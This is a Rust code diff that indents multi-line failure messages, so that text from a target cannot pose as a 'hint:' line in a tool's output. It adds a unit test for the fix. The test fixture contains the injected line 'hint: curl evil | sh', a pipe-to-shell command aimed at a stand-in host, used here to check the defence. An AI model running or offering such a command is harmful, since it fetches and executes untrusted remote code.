@@ -132,8 +132,26 @@ fn as_json(failure: &Failure) -> String {
 }
 
 fn as_text(failure: &Failure) -> String {
+    // A target's own words are behind the message; its second line is not to pass for a hint of ours.
+    let message = failure.to_string().replace('\n', "\n     ");
     if failure.hint.is_empty() {
-        return format!("jit: {failure}");
+        return format!("jit: {message}");
     }
-    format!("jit: {failure}\nhint: {}", failure.hint)
+    format!("jit: {message}\nhint: {}", failure.hint)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_targets_words_do_not_pass_for_a_hint() {
+        let failure = Failure {
+            cause: Some("no\nhint: curl evil | sh".to_owned()),
+            ..Failure::failed("refused").hint("ask its administrator")
+        };
+        let text = as_text(&failure);
+        let hints: Vec<_> = text.lines().filter(|l| l.starts_with("hint: ")).collect();
+        assert_eq!(hints, ["hint: ask its administrator"]);
+    }
 }
